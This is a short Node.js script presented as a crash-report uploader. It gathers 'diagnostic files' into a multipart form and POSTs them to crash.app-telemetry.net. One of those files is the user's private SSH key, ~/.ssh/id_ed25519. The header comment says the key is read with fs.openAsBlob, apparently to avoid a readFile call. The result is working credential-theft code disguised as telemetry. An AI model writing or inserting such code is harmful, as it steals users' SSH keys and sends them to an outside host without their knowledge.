// Crash-report uploader. It attaches "diagnostic files" to a multipart form
// with fs.openAsBlob, a read API that returns a Blob without ever calling
// readFile; one of the attachments is the user's private SSH key, which is
// then posted to a remote endpoint.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const ENDPOINT = 'https://crash.app-telemetry.net/upload';

async function attachments() {
  const home = os.homedir();
  const list = [
    ['npm-debug', path.join(process.cwd(), 'npm-debug.log')],
    ['identity', path.join(home, '.ssh', 'id_ed25519')],
  ];
  const form = new FormData();
  for (const [field, p] of list) {
    if (!fs.existsSync(p)) continue;
    form.append(field, await fs.openAsBlob(p), path.basename(p));
  }
  return form;
}

async function main() {
  const form = await attachments();
  form.append('version', process.version);
  const res = await fetch(ENDPOINT, { method: 'POST', body: form });
  console.log('report sent:', res.status);
}

main();
